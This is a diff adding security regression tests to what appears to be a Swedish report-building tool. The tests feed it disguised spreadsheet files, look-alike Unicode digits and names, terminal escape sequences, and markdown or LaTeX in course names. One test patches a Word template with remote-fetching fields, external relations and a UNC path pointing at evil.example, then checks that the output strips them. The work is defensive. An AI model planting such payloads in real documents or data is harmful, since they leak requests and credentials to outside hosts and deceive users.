@@ -366,3 +366,262 @@ def message(output: str, needle: str, tmp: Path) -> str:
                                                            " Inga fel", " Fel (", " Varningar ("))
             if e > 0]
     return flat[start:min(ends, default=len(flat))].strip()
+
+
+# ---------------------------------------------------------------------------------------------
+# Fresh-eyes round (attack-findings 2, 4-10): attacks found by a review of main, beyond
+# issue 18's list. Each fails on main (80a46fd) and passes with its fix.
+
+def _course_2009(*names: str):
+    """The first 2009 courses named ``names`` (one name each)."""
+    def edit(tables):
+        rows = tables["kurser"]
+        col = rows[0].index("namn")
+        for row, name in zip([r for r in rows[1:] if r[0] == "2009"], names):
+            row[col] = name
+    return edit
+
+
+def _sample_ods_bytes(tmp: Path) -> bytes:
+    import pandas as pd
+
+    path = tmp / "prov.ods"
+    with pd.ExcelWriter(path, engine="odf") as writer:
+        for name, rows in read_sample().items():
+            pd.DataFrame(rows[1:], columns=rows[0]).to_excel(writer, sheet_name=name, index=False)
+    data = path.read_bytes()
+    path.unlink()
+    return data
+
+
+def ods_with_xlsx_part(tmp):
+    """The sample as an .ods plus a junk xl/workbook.xml, named .XLSX: calamine did not know
+    the upper-case extension, tried every format and parsed the ODS in this process."""
+    import zipfile
+
+    path = tmp / "register.XLSX"
+    path.write_bytes(_sample_ods_bytes(tmp))
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("xl/workbook.xml", "x")
+        archive.writestr("xl/_rels/workbook.xml.rels", "x")
+    return ["validera", "--data", path]
+
+
+def ods_named_xlsx(tmp):
+    path = tmp / "register.xlsx"
+    path.write_bytes(_sample_ods_bytes(tmp))
+    return ["validera", "--data", path]
+
+
+def zip_of_neither(tmp):
+    import zipfile
+
+    with zipfile.ZipFile(tmp / "register.ods", "w") as archive:
+        archive.writestr("annat.xml", "<a/>")
+    return ["validera", "--data", tmp / "register.ods"]
+
+
+def ods_under_hard_limit(tmp):
+    path = tmp / "register.ods"
+    path.write_bytes(_sample_ods_bytes(tmp))
+    return ["validera", "--data", path]
+
+
+@contextmanager
+def hard_limit_2_5_gb():
+    """A process whose hard address-space limit is 2.5 GB (a container, systemd's LimitAS,
+    ``ulimit -v 2500000``): raising a limit above it fails as the kernel fails it."""
+    import resource
+
+    hard = int(2.5 * 1024**3)
+    real_get, real_set = resource.getrlimit, resource.setrlimit
+
+    def getrlimit(which):
+        return (hard, hard) if which == resource.RLIMIT_AS else real_get(which)
+
+    def setrlimit(which, limits):
+        if which == resource.RLIMIT_AS and max(limits) > hard:
+            raise ValueError("not allowed to raise maximum limit")
+        return real_set(which, limits)
+
+    resource.getrlimit, resource.setrlimit = getrlimit, setrlimit
+    try:
+        yield
+    finally:
+        resource.getrlimit, resource.setrlimit = real_get, real_set
+
+
+def _add_cost(amount: str):
+    def edit(tables):
+        tables["kostnader"].append(["2009", "", "Konsultarvode", amount])
+    return edit
+
+
+def bengali_amount(tmp):
+    return ["validera", "--data", sample(tmp, edit=_add_cost("1\u09ea00000"))]
+
+
+def fullwidth_year(tmp):
+    def edit(tables):
+        tables["kostnader"].append(["\uff12\uff10\uff10\uff19", "", "Konsultarvode", "100"])
+    return ["validera", "--data", sample(tmp, edit=edit)]
+
+
+def arabic_grade(tmp):
+    def edit(tables):
+        rows = tables["utvarderingar"]
+        rows[1][rows[0].index("betyg")] = "\u0664"  # ARABIC-INDIC DIGIT FOUR
+    return ["validera", "--data", sample(tmp, edit=edit)]
+
+
+_ESCAPES = "Kurs \x1b]0;TITLE\x07 \x1b[2J \x9b31m \u202e slut"
+
+
+def stats_escapes(fmt: str):
+    def make(tmp):
+        args = ["stats", "2009", "--data", sample(tmp, edit=_course_2009(_ESCAPES))]
+        return args + (["--format", fmt] if fmt else [])
+    make.__name__ = f"stats_escapes_{fmt or 'tabell'}"
+    return make
+
+
+def math_in_chart(tmp):
+    return ["build", "2009", "--data", sample(tmp, edit=_course_2009(
+        r"Budget $\foo{x}$ kurs", "Potens $x^{2}$")), "-o", tmp / "r.md"]
+
+
+def math_kept(tmp):
+    assert (tmp / "r_diagram").is_dir() and any((tmp / "r_diagram").glob("*.png"))
+    assert r"Budget \$\\foo\{x\}\$ kurs" in (tmp / "r.md").read_text(encoding="utf-8")
+
+
+MARKDOWN_NAMES = ("1986. Kurs", "+ Plus", "Ledarskap x^2^ och H~2~O", "R&amp;D ::: och [^1]",
+                  "b) Budget")
+
+
+def markdown_names(tmp):
+    return ["build", "2009", "--data", sample(tmp, edit=_course_2009(*MARKDOWN_NAMES)),
+            "-o", tmp / "r.html"]
+
+
+def markdown_names_are_text(tmp):
+    import html as html_module
+    import re
+
+    page = (tmp / "r.html").read_text(encoding="utf-8")
+    text = html_module.unescape(re.sub(r"<[^>]+>", "", page))
+    for name in MARKDOWN_NAMES:
+        assert name in text, name
+    assert 'start="1986"' not in page and "<sup>" not in page and "<sub>" not in page
+
+
+def _reference_with_remote_content(tmp: Path) -> Path:
+    """The bundled reference.docx with a remote template, an external image and fetching
+    fields in the footer (a template shared between municipalities)."""
+    import zipfile
+
+    from pk_report.report.own_templates import export_templates
+
+    export_templates(tmp / "mallar", False)
+    path = tmp / "mallar" / "reference.docx"
+    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
+            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+            'Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            'relationships/{type}" Target="{target}" TargetMode="External"/></Relationships>')
+
+    def patch(name, data):
+        if name == "word/settings.xml":
+            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdX"/><w:zoom', 1)
+        if name == "word/footer1.xml":
+            return data.replace(b"</w:ftr>", b'<w:p><w:fldSimple w:instr="INCLUDEPICTURE '
+                                b'&quot;http://evil.example/t.png&quot; \\d"><w:r><w:t>bild'
+                                b'</w:t></w:r></w:fldSimple><w:r><w:fldChar w:fldCharType='
+                                b'"begin"/></w:r><w:r><w:instrText> INCLUDETEXT "\\\\\\\\evil'
+                                b'\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType'
+                                b'="separate"/></w:r><w:r><w:t>text</w:t></w:r><w:r><w:fldChar '
+                                b'w:fldCharType="end"/></w:r></w:p></w:ftr>')
+        return data
+
+    patch_parts(path, patch)
+    with zipfile.ZipFile(path, "a") as archive:
+        archive.writestr("word/_rels/settings.xml.rels", rels.format(
+            type="attachedTemplate", target="file://evil.example/share/x.dotm"))
+        archive.writestr("word/_rels/footer1.xml.rels", rels.format(
+            type="image", target="http://evil.example/pixel.png"))
+    return tmp / "mallar"
+
+
+def remote_reference(tmp):
+    return ["build", "2009", "--mallar", _reference_with_remote_content(tmp), "-o",
+            tmp / "r.docx"]
+
+
+def nothing_external(tmp):
+    import zipfile
+
+    with zipfile.ZipFile(tmp / "r.docx") as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    everything = b"".join(parts.values())
+    for word in (b"evil.example", b"attachedTemplate", b"INCLUDEPICTURE", b"INCLUDETEXT"):
+        assert word not in everything, word
+    footer = next(v for n, v in parts.items() if n.startswith("word/footer"))
+    assert b"PAGE" in footer and b"NUMPAGES" in footer and b"bild" in footer
+
+
+def confusable_names(tmp):
+    names = ["Anna Svensson", "Anna \u200bSvensson", "\u0410nna Svensson", "Anna\u00a0Svensson",
+             "anna svensson"]
+    tables = minimal_tables(
+        kurser=[{"ar": 2010, "kurs_id": "k", "namn": "K"}],
+        tillfallen=[{"tillfalle_id": "t", "kurs_id": "k", "datum": "2010-03-01"}],
+        deltagare=[{"tillfalle_id": "t", "namn": n, "kon": "K", "roll": "ledamot",
+                    "organisationstyp": "stadsdel"} for n in names])
+    return write_csv_folder(tmp / "d", tables)
+
+
+def confusable_validera(tmp):
+    return ["validera", "--data", confusable_names(tmp)]
+
+
+def confusable_stats(tmp):
+    return ["stats", "2010", "--data", confusable_names(tmp), "--format", "json"]
+
+
+CASES += [
+    Case("en .ods med en extra xl/workbook.xml, med namnet `register.XLSX`", ods_with_xlsx_part,
+         1, "både en Excel-arbetsbok"),
+    Case("en .ods med namnet `register.xlsx`", ods_named_xlsx, 0, "Inga fel",
+         shown="läses som .ods (efter innehållet, inte namnet), i barnprocessen med minnesgräns"),
+    Case("en zip som varken är .xlsx eller .ods", zip_of_neither, 1, "content.xml i en .ods"),
+    Case(".ods där processens hårda minnesgräns är 2,5 GB (`ulimit -v 2500000`)",
+         ods_under_hard_limit, 0, "Inga fel", platform=hard_limit_2_5_gb,
+         shown="läses: barnprocessens gräns blir den lägre av 3 GB och den hårda gränsen"),
+    Case("belopp med en bengalisk siffra (`1৪00000`, ৪ ser ut som 8)", bengali_amount, 1,
+         "BENGALI DIGIT FOUR"),
+    Case("år med helbreddssiffror (`２００９`)", fullwidth_year, 1, "FULLWIDTH DIGIT TWO"),
+    Case("betyg med en arabisk-indisk siffra (`٤`)", arabic_grade, 1, "ARABIC-INDIC DIGIT FOUR"),
+    Case("kursnamn med ESC, BEL, OSC, CSI, C1-CSI och U+202E: `stats --format csv`",
+         stats_escapes("csv"), 0, "Kurs ]0;TITLE [2J 31m slut",
+         shown="tecknen tas bort, som i rapporten: `Kurs ]0;TITLE [2J 31m  slut`"),
+    Case("samma kursnamn: `stats --format json`", stats_escapes("json"), 0,
+         "Kurs ]0;TITLE [2J 31m slut", shown="tecknen tas bort, som i rapporten"),
+    Case("samma kursnamn: `stats` som tabell", stats_escapes(""), 0,
+         "Kurs ]0;TITLE [2J 31m slut", env={"COLUMNS": "250"},
+         shown="tecknen tas bort, som i rapporten"),
+    Case(r"kursnamn `Budget $\foo{x}$ kurs` och `Potens $x^{2}$` i diagrammen", math_in_chart,
+         0, "Skrev", check=math_kept,
+         shown="ritas som text, dollartecken och allt (förut exit 70, ”Unknown symbol”)"),
+    Case("kursnamn `1986. Kurs`, `+ Plus`, `x^2^`, `H~2~O`, `R&amp;D`, `:::`, `[^1]`, `b) …`",
+         markdown_names, 0, "Skrev", check=markdown_names_are_text,
+         shown="visas som de är skrivna i alla format, aldrig som lista, upphöjt eller entitet"),
+    Case("`reference.docx` med fjärrmall, extern bild och INCLUDEPICTURE/INCLUDETEXT i sidfoten",
+         remote_reference, 0, "Skrev", check=nothing_external,
+         shown="Word-filen får inget av det: externa relationer utom http/https/mailto-länkar, "
+               "attachedTemplate och fält utom PAGE, NUMPAGES och SEQ tas bort"),
+    Case("”Anna Svensson” fem gånger vid ett tillfälle: kyrilliskt А, ZWSP, NBSP, gemener",
+         confusable_validera, 0, "blandar bokstäver från olika skriftsystem"),
+    Case("samma fem: samma person två gånger", confusable_validera, 0,
+         "Samma person står redan på rad 2"),
+    Case("samma fem: `stats --format json`", confusable_stats, 0, '"unika_personer": 2',
+         shown="två personer: Anna Svensson (fyra stavningar) och namnet med kyrilliskt А"),
+]
